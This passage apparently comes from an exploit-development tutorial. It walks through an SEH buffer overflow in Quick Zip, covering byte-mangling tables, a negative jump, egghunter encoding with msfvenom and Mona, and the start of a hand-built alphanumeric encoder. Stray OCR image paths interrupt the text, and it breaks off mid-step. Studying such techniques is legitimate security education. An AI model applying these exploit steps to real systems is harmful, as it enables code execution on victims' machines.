Some of these we can solve without a doubt, others are going to depend, and we’ll need to do a bit of testing. There are conditional jumps the in \x70–\x7F range which we should be able to use. A jump net may work. If you aren’t familiar with a jump net, take a look at this article by OJ Reeves. It’s a fantastic article. For my purposes, I’ll be using the example he gives for the jump directly. But we still need to figure out a jump offset.Figuring out the negative jump offset

Now, if you’re like me you may wish for an easier way, but honestly I haven’t found one. Essentially though, this step is a lot of trial and error, and a bit of hope. For this to work, we’re going to try jump sequences with known bad characters, and see if any of the modifications the application makes to them are going to allow us to jump back. The way I approached this was:

nseh = '\x71\xBAD_CHAR_1\x70\xBAD_CHAR_2'

This allows us to see how the jump get’s altered, two characters at a time. Then, I repeated this, working from \x80 upwards till I found a value that was good. To give you an idea of how the values got mangled, take a look at the table below:

Original Byte Mangled Byte
\x81 \xFC
\x82 \xE9
\x83 \xE2
\x84 \xE4
\x85 \xE0
\x86 \xE5
\x87 \xE7
\x88 \xEA
\x89 \xEB
\x8A \xE8
\x8B \xEF
\x8C \xEE
\x8D \xEC
\x8E \xC4
\x8F \xC5
\x90 \xC9
\x91 \xE6
\x92 \xC6
\x93 \xF4
\x94 \xF6
\x95 \xF2
\x96 \xFB
\x97 \xF9
\x98 \xFF
\x99 \xD6
\x9A \xDC
\x9B \xA2\x9C \xA3
\x9D \xA5
\x9E \x50
\x9F \x83

This is by NO MEANS an exhaustive list of all of the byte mangling that occurs, but we do see in the last line that \x9F is converted into \x83. A jump of \x83 is a -125 byte jump, which will give us a fair amount of room to work. Not enough room for a reverse shell, but it may give us enough room for a decoder, another jump, or something else.

So if we can jump back 125 bytes, and our nSEH offset is at 294, that means that we have 171 bytes of unused space before our jump landing and 123 bytes of space including our jump landing. You may be looking at that and saying shouldn’t that be 169 and 125? Nope! Because we have already executed the two bytes for our jump, we also have to jump over them, meaning we only actually have 123 bytes of space after we jump back.

As a result, let’s modify our exploit so that we can test the jump back, and ensure we’re landing where we expect. As we know how far back we’re jumping, we’ll update our pre-nSEH payload with A’s in our above jump landing zone, and B’s in our jump landing zone, which is where we’ll be able to execute code. This shouldn’t cause any confusion for us as we’re going to replace the B’s in nSEH with our actual jump.

With our updates, we now have:Note how our payload now is being built with a section of A’s and a section of B’s on lines 53 and 54 and our jump net, as described in OJ’s article, is on line 46. Let’s generate a new ZIP file and test this. We’ll set a breakpoint at the POP, POP, RET return address, pass the exception tothe program with Shift+F9, and step through with F7 until we land at our conditional jumps.

When we get there, we see our expected conditional jumps:

Conditional jumps

We’ll then take the jump, landing either at the very first B or the third B, depending on if we’re taking the first or second jump, as if we’re using the second jump, it has to also jump over the previous jump (which is two bytes long).

In this case, we’re hitting our first jump, so we land at the first B:

After we jump back

What do we do with our new space?

Now that we have this additional space, we have to figure out what we want to do. If you remember the problems I listed before, we solved some, but not all. Specifically, we still don’t actually know if this is the only space we have or if there is other space available to us. The question to be asking yourself here is what happened to the D’s at the end of our payload, now that they got cut off by the null byte in SEH.

To figure out what happened, we’ll try to locate these D’s in memory. If we click on the M in the top toolbar to view the memory window, right click and select search, we can then search for our D’s. Make sure you put enough D’s in here though so that it’s not accidentally finding other areas of normal instructions, but so that it’s definitely your payload:

Search for our D's

Found our D's!Nice! It looks like our D’s are actually still in memory. We should be able to use this to store a larger payload. This means we have a potential way forward, if we can figure out how to fit an egghunter into the limited space that we have.

What’s an egghunter?

An egg hunter is a small payload designed to search a system’s virtual address space, commonly abbreviated VAS, for an egg denoting the beginning of another, larger payload. This egg is usually two instances of four bytes (e.g. we may use the egg “eggs” as “\x73\x67\x67\x65” (note this is in reverse for little-endian architectures), or “w00t” as“\x74\x30\x30\x77”) which are used to first identify that we’ve found the larger payload, and then validate that the entry we’ve found is in fact our payload.

If like me, one of the first things you’ll think is can we just use four bytes, rather than eight? At first, this would seem to make sense as we want to keep space of both payloads (most likely) as small as possible. If we use only four bytes though, the egg hunter may inadvertently detect itself, as it has to store the egg in memory itself. Thus, by using the key twice, totalling eight bytes, we bypass this risk and ensure that we have actually found our payload. In addition, using a single four byte key, repeated twice, allows us to reduce the size of our egghunter by four bytes, as we do not need to store two unique keys in memory.

The other thing to consider is what bytes are you choosing and are then something which would not be unique in memory. If you are not careful, it is possible for the chosen key to already exist in memory. An example of a bad key would be “\x90\x90\x90\x90” which constitutes four no operation (NOP) operation codes. These can exist in memory anyway, and as such should not be used.

Can we fit an egghunter

Normally an egghunter is approximately 34 bytes long but contains non-ascii characters making it a problem for us to use in our exploit. Directly encoding it via Mona is going to give us too long of an egghunter, at about 200bytes. If we encode it using Metasploit’s alpha_mixed encoder, we actually get a good sized payload, but it has some characters which are not printable.

This is due to the opcodes (“\x89\xe2\xdb\xdb\xd9\x72”) at the beginning of the payload, which are needed in order to find the payloads absolute location in memory and obtain a fully position-independent shellcode.

Once our start of shellcode address is obtained through the first two instructions, it is pushed onto the stack and stored in the ECX register, which will then be used to calculate relative offsets. However, if we are somehow able to obtain the absolute position of the shellcode on our own and save that address in a register before running the shellcode, we can use a not-well-documented option (in my opinion at least, took my awhile to figure out how to use this option), BufferRegister to tell thepayload what register contains the address of the first byte of our encoded shellcode.

With that in mind, can we potentially take our egghunter and put it in the 171 bytes of space at the beginning of the exploit, and then use the space after our jump to craft this address, store it in a register and jump to it?

Figuring out if we have the space

So now let’s take the time to actually figure out how much space we need. We want to prepare a register for our shellcode, and then jump to it. Looking at the instructions to add and subtract from the primary general purpose registers, we see that EAX seems to be the only one that we can probably add or subtract to without a badcharacter, as the others appear to use \x81, which as we saw earlier will get mangled into \xFC by Quick Zip.

So if we can manipulate EAX to build information, it may not be the one we want to store the data in directly, as it’s the only one we can safely change. Instead, let’s use EDX, so that we can store the data we want in EDX, and then do instruction calculations via EAX. This will make more sense in a minute.So it we are going to store the location of our shellcode in EDX, let’s see how much space this is going to use. First, we need an egghunter to encode. We’ll generate this using Mona’s egghunter command, which uses the tag (or egg) w00t by default:

!mona egghunter

This gives us the following output:

!mona egghunter output

We’ll save the hex, as output, to a file named egghunter.txt on our attacking machine.

To encode a custom payload using Metasploit, it has to be in it’s raw binary form, so we’ll need to convert this hex into the raw form. To do this we can use a little bit of command line kung-fu:

cat egghunter.txt | tr -d '"' | tr -d '\n' | tr -d '\\x' | xxd -r -p > egghunter.bin

This will cat the hex file, remove the quotation marks, newline characters and \x byte indicators, then pipe it to xxdwhich will reverse (-r) the hexdump into binary and we’ll tell xxd that the hexdump is in continuous hexdump format, meaning it’s the hex in a single line without any line breaks or other characters. We’ll then use the > operator to redirect the raw output into a file, egghunter.bin which will store our binary egghunter data.

With the binary data ready, let’s see if we can encode the egghunter using the EDX register as our buffer register (meaning that when we hit the shellcode, in EDX we will have the address of the first instruction of the shellcode):

root@kali:~/exploits/quickzip# msfvenom -p generic/custom PAYLOADFILE=egghunter.bin -e x86/alpha_mixed BufferRegister=EDX -a x86 --platform Windows
Found 1 compatible encoders
Attempting to encode payload with 1 iterations of x86/alpha_mixed
x86/alpha_mixed succeeded with size 117 (iteration=0)
x86/alpha_mixed chosen with final size 117Payload size: 117 bytes

So that used 117 bytes of space. So that means if we started with 171 bytes of open space before our jump, 171 – 117 = 54 /2 = 27. So we’ll put 27 NOP equivalent instructions (instructions which affect registers that are not the ones we’re working with, such as EBX or ECX). This will give us a bit of wiggle room if we need it.

This gives us:

OK, so we have the space for the egghunter, and that looks ok. Let’s take care ofgetting to our egghunter next.

Getting to the Egghunter Payload

With our egghunter safe in memory, we need to use our remaining 123 bytes to get to it. So let’s see what needs to happen. We’re going to use an addition / subtraction encoder, as shown by Muts in his NNM 7.5.1 exploit. Personally, this was something which confused me more than I care to admit. So we’re going to discuss it in a bit more depth. You can find source code for this encoder in Mona, Metasploit, and other locations. Using one of these, while more efficient than doing it by hand, hides the magic behind this idea.

So first, what do we want to do:

  1. Zero out EAX
  2. Calculate the value of the address of our shellcode, in little-endian order
  3. Push the address in EAX onto the stack
  4. Pop the value into EDX
  5. Zero out EAX (not strictly necessary, but easier math)
  6. Push ESP onto the stack
  7. Pop the value into EAX
  8. Adjust the stack address to point to an address below our decoder, so that once we’ve decoded it, we automatically execute it
  9. Push EAX onto the stack
  10. Pop the value into ESP, making it so if we push a value, we’ll be writing below our current execution
  11. Push JMP EDX instruction

If we do everything right, this will give us the location of our shellcode in EDX and will decode it below our current EIP location. There are a few dangers to this though:

  • When adjusting the ESP location, we have to make sure it stays on a 4 byte boundary. If it’s not, when we execute our shellcodethings will break
  • We only have 123 bytes of space, so we need to make sure we only do the minimum necessary, to ensure we have enough space.

Encoding Our Opcodes

So we need a few things:

  • The address of our shellcode in memory
  • POP EDX opcode
  • PUSH ESP opcode
  • POP EAX opcode
  • PUSH EAX opcode
  • POP ESP opcode
  • JMP EDX opcodeWe can get some of these easily via the nasm_shell.rb tool within metasploit:


This gives us:

  • The address of our shellcode in memory
  • POP EDX — \x5A
  • PUSH ESP opcode — \x54
  • POP EAX opcode — \x58
  • PUSH EAX opcode —\x50
  • POP ESP opcode — \x5C
  • JMP EDX opcode — \xFF\xE2

Wonderful! This is progress. Let’s re-generate our zip file with our egghunter, and see where our egghunter shellcode begins. Since it has A’s above and below it, we should be able to find it pretty easily. Sadly, not the best photo (if anyone knows how to prevent the crashed program from hanging in front of the debugger, please comment!), but we can see if better in the dump in the bottom left:

Our encoded egghunter in memory

This location is one away from a nice multiple of four, which I’m a bit hesitant of, and we have the space to fix it, so we’ll move our egghunter up by one by adjusting our NOPs.

By up in this case, we mean that we’re going to put one less NOP equivalent before our payload. This gives us:

aligned shellcode

So we now have our egghunter address, giving us the following information:

  • The address of our shellcode in memory — 0012FAF0• POP EDX — \x5A
  • PUSH ESP opcode — \x54
  • POP EAX opcode — \x58
  • PUSH EAX opcode — \x50
  • POP ESP opcode — \x5C
  • JMP EDX opcode — \xFF\xE2

So let’s zero out EAX. We’ll do this using AND EAX instructions, which are denoated by the \x25 instruction. The key to this instruction and the reason it zeroes out EAX is the binary representation of the hex number. The output below is grabbed from Mona, but there are multiple values that can use here, whether that’s manually calculated or not.

%JMNU : \x25\x4a\x4d\x4e\x55 : AND EAX,0x554E4D4A
%521* : \x25\x35\x32\x31\x2a : AND EAX,0x2A313235

If we look at the binary for the hex numbers, we can see the alignment of 1’s doesn’t align, thus we end up with all 0’s, as AND operations only return 1 whereboth values are 1:

0x554E4D4A = 1010101010011100100110101001010
0x2A313235 = 0101010001100010011001000110101

This can be converted easily using sites like RapidTables

